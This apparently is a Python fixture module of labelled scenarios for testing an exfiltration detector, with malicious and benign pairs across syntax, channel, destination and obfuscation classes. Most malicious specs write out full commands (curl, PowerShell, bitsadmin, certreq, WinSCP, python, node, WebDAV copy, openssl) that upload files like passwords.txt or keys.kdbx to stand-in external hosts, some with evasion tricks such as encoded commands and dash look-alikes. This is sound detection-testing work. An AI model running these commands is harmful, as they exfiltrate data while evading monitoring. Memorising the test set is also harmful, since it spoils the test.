"""Issue 12's scenario families: how people really type upload commands, the other upload channels, and the
destination/scheme classes, each malicious family with hard negatives beside it (the same tool downloading,
the same upload to an internal server, or the same upload in plain text).

Classes (the `_class` of docs/detection-coverage.md is the id's prefix):
  syntax-*   argument syntax: combined short flags, quoted options, parameters in any order, PowerShell
             prefixes/aliases, dash look-alikes, case, renamed binaries
  channel-*  upload channels beyond -InFile/Upload*: -Body with file bytes or a form, BITS, certreq -Post,
             WinSCP's .NET assembly, scripting runtimes, WebDAV over SSL through UNC paths
  dest-*     destination and scheme: plain-text uploads are T1048.003; internal destinations are not exfiltration
  stretch-*  -EncodedCommand, member names built by concatenation, TLS pipes fed a file by redirection
Written from the tools' documentation, independently of the app's analyzer (the wall: no import from app/).
"""
import base64

from .script import Connect, Dns, Run, Spec, Wait

CMD = r"C:\Windows\System32\cmd.exe"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
PWSH = r"C:\Program Files\PowerShell\7\pwsh.exe"
CURL = r"C:\Windows\System32\curl.exe"
WEBCLIENT_SVC = r"C:\Windows\System32\svchost.exe"


def _encoded(script):
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def _ps(label, cmd, parent="explorer", gap=900):
    return Run(label, PS, cmd, parent=parent, gap=gap)


def _out(label, name, port=443):
    return (Dns(label, name, gap=300), Connect(label, name, port))


SYNTAX = [
    Spec("syntax-curl-combined-flags", True, "T1048.002",
         "curl with combined short flags: -sST <file> (silent, show errors, upload-file) to an external HTTPS drop.",
         "v-1", (0.07,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r"curl.exe -sST {docs}\board-minutes.7z https://drop.quietbox.example.net/u/bm.7z",
                 parent="cmd", gap=4000),
             *_out("curl", "drop.quietbox.example.net"), Wait(5000))),
    Spec("syntax-curl-quoted-options", True, "T1048.002",
         "curl with every argument quoted (\"-F\" \"doc=@file\") and the image name upper-case.",
         "v-2", (0.11,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", r"C:\Windows\System32\CURL.EXE",
                 r'"C:\Windows\System32\CURL.EXE" "-F" "doc=@{docs}\contracts.pdf" "https://drop.quietbox.example.net/f"',
                 parent="cmd", gap=4000),
             *_out("curl", "drop.quietbox.example.net"), Wait(4000))),
    Spec("syntax-iwr-reordered", True, "T1048.002",
         "Invoke-WebRequest with -InFile before -Method (the order the old rule's look-ahead never matched).",
         "v-3", (0.15,), (
             _ps("ps", r'powershell.exe -NoProfile -Command "Invoke-WebRequest -InFile {docs}\pricing.xlsx '
                       r'-Method Post -Uri https://api.paste-relay.example.com/in -UseBasicParsing"'),
             *_out("ps", "api.paste-relay.example.com"), Wait(4000))),
    Spec("syntax-irm-prefix-alias", True, "T1048.002",
         "irm (alias) with abbreviated parameters -Meth Post -InF <file> and the URL by position.",
         "v-4", (0.19,), (
             _ps("ps", r'powershell.exe -nop -c "irm -Meth Post -InF {docs}\roadmap.docx https://api.paste-relay.example.com/r"'),
             *_out("ps", "api.paste-relay.example.com"), Wait(4000))),
    Spec("syntax-iwr-dash-lookalikes", True, "T1048.002",
         "Invoke-WebRequest with en dash, em dash and horizontal bar in place of the hyphen, mixed case.",
         "v-5", (0.23,), (
             _ps("ps", "powershell.exe -Command \"invoke-webrequest \u2013uri https://api.paste-relay.example.com/d "
                       "\u2014METHOD pOsT \u2015infile {docs}\\payroll.csv\""),
             *_out("ps", "api.paste-relay.example.com"), Wait(4000))),
    Spec("syntax-renamed-curl", True, "T1048.002",
         "curl copied to C:\\ProgramData\\upd.exe (PE OriginalFileName curl.exe) uploading with --upload-file.",
         "v-6", (0.27,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", r"C:\ProgramData\upd.exe", r"C:\ProgramData\upd.exe --upload-file {docs}\ledger.zip "
                 r"https://drop.quietbox.example.net/l", parent="cmd", ofn="curl.exe", gap=3000),
             *_out("curl", "drop.quietbox.example.net"), Wait(4000))),
    # hard negatives: the same tools and syntax, downloading
    Spec("syntax-neg-curl-combined-download", False, "none",
         "curl with combined short flags downloading (-sSLo <file> <url>): no upload.",
         "v-7", (0.09,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r"curl.exe -sSLo {temp}\jq.exe https://objects.githubusercontent.com/jq/jq-win64.exe",
                 parent="cmd", gap=3000),
             *_out("curl", "objects.githubusercontent.com"), Wait(3000))),
    Spec("syntax-neg-irm-prefix-download", False, "none",
         "irm with abbreviated parameters downloading (-Meth Get -OutF <file>).",
         "v-8", (0.21,), (
             _ps("ps", r'powershell.exe -nop -c "irm -Meth Get -OutF {temp}\feed.json https://api.weather-feed.example.com/v1/today"'),
             *_out("ps", "api.weather-feed.example.com"), Wait(3000))),
    Spec("syntax-neg-curl-form-literal", False, "none",
         "curl -F with a literal form field (no @file): a login/API call, not a file upload.",
         "v-9", (0.25,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r'curl.exe -s -F "status=ok" -F "host={host}" https://status.corp-saas.example.net/ping',
                 parent="cmd", gap=3000),
             *_out("curl", "status.corp-saas.example.net"), Wait(3000))),
]

CHANNEL = [
    Spec("channel-irm-body-form", True, "T1048.002",
         "Invoke-RestMethod -Method Post -Body <hashtable form> to pastebin's API (Atomic Red Team's text-storage "
         "exfiltration), the content read from a file first.",
         "v-10", (0.31,), (
             _ps("ps", r"""powershell.exe -Command "$c = Get-Content {docs}\passwords.txt -Raw; $p = @{{api_dev_key='k1'; """
                       r"api_option='paste'; api_paste_code=$c}}; Invoke-RestMethod -Uri https://pastebin.com/api/api_post.php "
                       r'-Method Post -Body $p"'),
             *_out("ps", "pastebin.com"), Wait(4000))),
    Spec("channel-iwr-body-bytes", True, "T1048.002",
         "Invoke-WebRequest -Method Put -Body ([IO.File]::ReadAllBytes(<file>)).",
         "v-11", (0.33,), (
             _ps("ps", r'powershell.exe -Command "Invoke-WebRequest -Uri https://api.paste-relay.example.com/blob '
                       r"-Method Put -Body ([IO.File]::ReadAllBytes('{docs}\source.zip'))" + '"'),
             *_out("ps", "api.paste-relay.example.com"), Wait(4000))),
    Spec("channel-bits-powershell-upload", True, "T1048.002",
         "Start-BitsTransfer -TransferType Upload to an external BITS upload server over HTTPS.",
         "v-12", (0.35,), (
             _ps("ps", r'powershell.exe -Command "Start-BitsTransfer -Source {docs}\customers.csv '
                       r'-Destination https://bits.cloud-stash.example.org/upload/customers.csv -TransferType Upload"'),
             Run("bits", WEBCLIENT_SVC, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS", parent="services"),
             *_out("bits", "bits.cloud-stash.example.org"), Wait(4000))),
    Spec("channel-bitsadmin-upload", True, "T1048.002",
         "bitsadmin /transfer <job> /upload <remote URL> <local file>.",
         "v-13", (0.37,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("ba", r"C:\Windows\System32\bitsadmin.exe",
                 r"bitsadmin.exe /transfer sync /upload /priority foreground "
                 r"https://bits.cloud-stash.example.org/upload/q.7z {docs}\q.7z", parent="cmd", gap=3000),
             *_out("ba", "bits.cloud-stash.example.org"), Wait(4000))),
    Spec("channel-certreq-post", True, "T1048.002",
         "certreq -Post -config <https URL> <file>: certreq sending a file's content to a web server.",
         "v-14", (0.39,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("cr", r"C:\Windows\System32\certreq.exe",
                 r"certreq.exe -Post -config https://enroll.cert-mirror.example.org/ {docs}\keys.txt {temp}\out.txt",
                 parent="cmd", gap=3000),
             *_out("cr", "enroll.cert-mirror.example.org"), Wait(4000))),
    Spec("channel-winscp-dotnet", True, "T1048.002",
         "WinSCP's .NET assembly driven from PowerShell (no WinSCP process): SessionOptions Sftp, Session.PutFiles.",
         "v-15", (0.41,), (
             _ps("ps", r"""powershell.exe -NoProfile -Command "Add-Type -Path 'C:\Program Files (x86)\WinSCP\WinSCPnet.dll'; """
                       r"$o = New-Object WinSCP.SessionOptions -Property @{{Protocol = [WinSCP.Protocol]::Sftp; "
                       r"HostName = 'ssh.far-archive.example.net'; UserName = 'u'; SshHostKeyFingerprint = 'ssh-ed25519 255 x'}}; "
                       r"$s = New-Object WinSCP.Session; $s.Open($o); $s.PutFiles('{docs}\*.xlsx', '/in/').Check()" + '"'),
             *_out("ps", "ssh.far-archive.example.net", 22), Wait(6000))),
    Spec("channel-python-requests", True, "T1048.002",
         "python -c one-liner: requests.post(url, files={'f': open(file,'rb')}) over HTTPS.",
         "v-16", (0.43,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("py", r"{localappdata}\Programs\Python\Python312\python.exe",
                 r'''python.exe -c "import requests; requests.post('https://api.paste-relay.example.com/py', '''
                 r'''files={{'f': open(r'{docs}\specs.pdf', 'rb')}})"''', parent="cmd", gap=3000),
             *_out("py", "api.paste-relay.example.com"), Wait(4000))),
    Spec("channel-node-fetch", True, "T1048.002",
         "node -e one-liner: fetch(url, {method:'POST', body: fs.readFileSync(file)}).",
         "v-17", (0.45,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("node", r"C:\Program Files\nodejs\node.exe",
                 r'''node.exe -e "const fs=require('fs');fetch('https://api.paste-relay.example.com/n',{{method:'POST',body:fs.readFileSync('{docs}/crm.csv')}})"''',
                 parent="cmd", gap=3000),
             *_out("node", "api.paste-relay.example.com"), Wait(4000))),
    Spec("channel-webdav-robocopy", True, "T1048.002",
         "robocopy to a WebDAV-over-SSL UNC path (\\\\host@SSL\\DavWWWRoot\\...); the WebClient service's svchost "
         "makes the HTTPS connection.",
         "v-18", (0.47,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("rc", r"C:\Windows\System32\Robocopy.exe",
                 r"robocopy.exe {docs}\Deals \\dav.share-bay.example.com@SSL\DavWWWRoot\in *.docx /E /R:1",
                 parent="cmd", gap=3000),
             Run("wc", WEBCLIENT_SVC, r"C:\Windows\system32\svchost.exe -k LocalService -p -s WebClient",
                 parent="services", gap=200),
             *_out("wc", "dav.share-bay.example.com"), Wait(6000))),
    Spec("channel-webdav-copy-ip-port", True, "T1048.002",
         "cmd /c copy to \\\\<ip>@SSL@8443\\drop\\: WebDAV over SSL on a non-standard port, by address.",
         "v-19", (0.49,), (
             Run("cmd", CMD, r'cmd.exe /c copy /y {docs}\vendors.xlsx \\203.0.113.201@SSL@8443\drop\v.xlsx'),
             Run("wc", WEBCLIENT_SVC, r"C:\Windows\system32\svchost.exe -k LocalService -p -s WebClient",
                 parent="services", gap=200),
             Connect("wc", "203.0.113.201", 8443), Wait(4000))),
    # hard negatives
    Spec("channel-neg-bits-download", False, "none",
         "Start-BitsTransfer downloading (no -TransferType Upload).",
         "v-20", (0.32,), (
             _ps("ps", r'powershell.exe -Command "Start-BitsTransfer -Source https://download.microsoft.com/x/kb.msu '
                       r'-Destination {temp}\kb.msu"'),
             *_out("ps", "download.microsoft.com"), Wait(3000))),
    Spec("channel-neg-bitsadmin-download", False, "none",
         "bitsadmin /transfer <job> /download <remote URL> <local file>.",
         "v-21", (0.36,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("ba", r"C:\Windows\System32\bitsadmin.exe",
                 r"bitsadmin.exe /transfer upd /download /priority normal https://download.microsoft.com/x/tool.zip "
                 r"{temp}\tool.zip", parent="cmd", gap=3000),
             *_out("ba", "download.microsoft.com"), Wait(3000))),
    Spec("channel-neg-irm-json-body", False, "none",
         "Invoke-RestMethod -Method Post with a literal JSON body (an API call, no file, no form).",
         "v-22", (0.40,), (
             _ps("ps", r'powershell.exe -Command "Invoke-RestMethod -Uri https://status.corp-saas.example.net/api/beat '
                       r"-Method Post -ContentType application/json -Body '{{\"host\":\"{host}\",\"ok\":true}}'" + '"'),
             *_out("ps", "status.corp-saas.example.net"), Wait(3000))),
    Spec("channel-neg-webdav-copy-download", False, "none",
         "copy FROM a WebDAV-over-SSL UNC path to the local disk (a download).",
         "v-23", (0.44,), (
             Run("cmd", CMD, r'cmd.exe /c copy \\docs.partner-portal.example.com@SSL\DavWWWRoot\forms\w9.pdf {temp}\w9.pdf'),
             Run("wc", WEBCLIENT_SVC, r"C:\Windows\system32\svchost.exe -k LocalService -p -s WebClient",
                 parent="services", gap=200),
             *_out("wc", "docs.partner-portal.example.com"), Wait(3000))),
    Spec("channel-neg-python-get", False, "none",
         "python -c one-liner fetching a URL (requests.get), no file sent.",
         "v-24", (0.46,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("py", r"{localappdata}\Programs\Python\Python312\python.exe",
                 r'''python.exe -c "import requests; print(requests.get('https://pypi.org/pypi/requests/json').status_code)"''',
                 parent="cmd", gap=3000),
             *_out("py", "pypi.org"), Wait(3000))),
]

DEST = [
    Spec("dest-plain-curl-ftp", True, "T1048.003",
         "curl -T to an ftp:// URL: unencrypted, so T1048.003 (never T1048.002).",
         "v-25", (0.53,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r"curl.exe -s -T {docs}\contacts.csv ftp://203.0.113.66/incoming/",
                 parent="cmd", gap=3000),
             Connect("curl", "203.0.113.66", 21), Wait(4000))),
    Spec("dest-plain-iwr-http", True, "T1048.003",
         "Invoke-WebRequest -Method Post -InFile to an http:// URL: T1048.003.",
         "v-26", (0.55,), (
             _ps("ps", r'powershell.exe -Command "Invoke-WebRequest -Uri http://203.0.113.67:8080/up -Method Post '
                       r'-InFile {docs}\salaries.xlsx"'),
             Connect("ps", "203.0.113.67", 8080), Wait(4000))),
    Spec("dest-plain-webdav-http", True, "T1048.003",
         "robocopy to a WebDAV UNC path without @SSL (\\\\host@80\\...): plain HTTP, T1048.003.",
         "v-27", (0.57,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("rc", r"C:\Windows\System32\Robocopy.exe",
                 r"robocopy.exe {docs}\Board \\203.0.113.68@80\dav\b *.pdf", parent="cmd", gap=3000),
             Run("wc", WEBCLIENT_SVC, r"C:\Windows\system32\svchost.exe -k LocalService -p -s WebClient",
                 parent="services", gap=200),
             Connect("wc", "203.0.113.68", 80), Wait(4000))),
    # hard negatives: the same uploads to the company's own servers
    Spec("dest-neg-curl-internal", False, "none",
         "curl -T to an internal HTTPS server (10.10.50.40): the company's own server, not exfiltration.",
         "v-28", (0.54,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r"curl.exe -sS -T {docs}\weekly.xlsx https://10.10.50.40/reports/weekly.xlsx",
                 parent="cmd", gap=3000),
             Connect("curl", "10.10.50.40", 443), Wait(3000))),
    Spec("dest-neg-mail-internal-relay", False, "none",
         "Send-MailMessage -UseSsl through the company's own relay (10.10.50.25:587).",
         "v-29", (0.56,), (
             _ps("ps", r'powershell.exe -Command "Send-MailMessage -From {user}@example-corp.com -To team@example-corp.com '
                       r'-Subject report -Attachments {docs}\weekly.xlsx -SmtpServer 10.10.50.25 -Port 587 -UseSsl"'),
             Connect("ps", "10.10.50.25", 587), Wait(3000))),
    Spec("dest-neg-winscp-internal", False, "none",
         "WinSCP scripted upload to the internal SFTP server sftp01 (10.10.50.20).",
         "v-30", (0.58,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("ws", r"C:\Program Files (x86)\WinSCP\WinSCP.com",
                 r'"C:\Program Files (x86)\WinSCP\WinSCP.com" /command "open sftp://{user}@10.10.50.20/ -hostkey=*" '
                 r'"put {docs}\handover.zip /home/{user}/" "exit"', parent="cmd", gap=3000),
             Connect("ws", "10.10.50.20", 22), Wait(3000))),
    Spec("dest-neg-curl-dmz-hierarchy", False, "none",
         "curl -T to the company's own file-exchange server in its public DMZ (198.51.100.230): public address, "
         "but a network of the console's network hierarchy, so internal by default.",
         "v-37", (0.59,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r"curl.exe -sS -T {docs}\handover.zip https://198.51.100.230/exchange/handover.zip",
                 parent="cmd", gap=3000),
             Connect("curl", "198.51.100.230", 443), Wait(3000))),
    Spec("dest-neg-webdav-internal", False, "none",
         "copy to the intranet's WebDAV over SSL by address (\\\\10.10.50.80@SSL\\DavWWWRoot\\...).",
         "v-31", (0.60,), (
             Run("cmd", CMD, r'cmd.exe /c copy {docs}\minutes.docx \\10.10.50.80@SSL\DavWWWRoot\teams\minutes.docx'),
             Run("wc", WEBCLIENT_SVC, r"C:\Windows\system32\svchost.exe -k LocalService -p -s WebClient",
                 parent="services", gap=200),
             Connect("wc", "10.10.50.80", 443), Wait(3000))),
]

_IRM_UPLOAD = ("Invoke-RestMethod -Uri https://api.paste-relay.example.com/e -Method Post "
               "-InFile C:\\Users\\Public\\loot.7z")
_IWR_DOWNLOAD = "Invoke-WebRequest -Uri https://download.microsoft.com/x/kb.msu -OutFile C:\\Users\\Public\\kb.msu"

STRETCH = [
    Spec("stretch-encoded-command", True, "T1048.002",
         "powershell -ec <base64 UTF-16LE>: the encoded script is an Invoke-RestMethod -InFile upload.",
         "v-32", (0.63,), (
             _ps("ps", "powershell.exe -w hidden -ec " + _encoded(_IRM_UPLOAD)),
             *_out("ps", "api.paste-relay.example.com"), Wait(4000))),
    Spec("stretch-concat-member", True, "T1048.002",
         "WebClient upload whose member name is built by concatenation: $w.('Upl'+'oadFile')(url, file).",
         "v-33", (0.65,), (
             _ps("ps", r'''powershell.exe -Command "$w = New-Object Net.WebClient; $w.('Upl'+'oadFile')('https://api.paste-relay.example.com/c', '{docs}\cad.zip')"'''),
             *_out("ps", "api.paste-relay.example.com"), Wait(4000))),
    Spec("stretch-openssl-pipe", True, "T1048.002",
         "cmd /c openssl s_client -connect host:443 -quiet < <file>: a TLS pipe fed a file by redirection.",
         "v-34", (0.67,), (
             Run("cmd", CMD, r'cmd.exe /c "openssl.exe s_client -quiet -connect tls.sink-point.example.net:443 < {docs}\keys.kdbx"'),
             Run("ossl", r"C:\Program Files\OpenSSL-Win64\bin\openssl.exe",
                 r"openssl.exe s_client -quiet -connect tls.sink-point.example.net:443", parent="cmd", gap=50),
             *_out("ossl", "tls.sink-point.example.net"), Wait(4000))),
    Spec("stretch-neg-encoded-download", False, "none",
         "powershell -enc <base64>: the encoded script only downloads (Invoke-WebRequest -OutFile).",
         "v-35", (0.64,), (
             _ps("ps", "powershell.exe -NoProfile -enc " + _encoded(_IWR_DOWNLOAD)),
             *_out("ps", "download.microsoft.com"), Wait(3000))),
    Spec("stretch-neg-openssl-certcheck", False, "none",
         "cmd /c openssl s_client -connect host:443 -showcerts < NUL: a certificate check, nothing sent.",
         "v-36", (0.68,), (
             Run("cmd", CMD, r'cmd.exe /c "openssl.exe s_client -connect github.com:443 -showcerts < NUL"'),
             Run("ossl", r"C:\Program Files\OpenSSL-Win64\bin\openssl.exe",
                 r"openssl.exe s_client -connect github.com:443 -showcerts", parent="cmd", gap=50),
             *_out("ossl", "github.com"), Wait(3000))),
]

SPECS = SYNTAX + CHANNEL + DEST + STRETCH
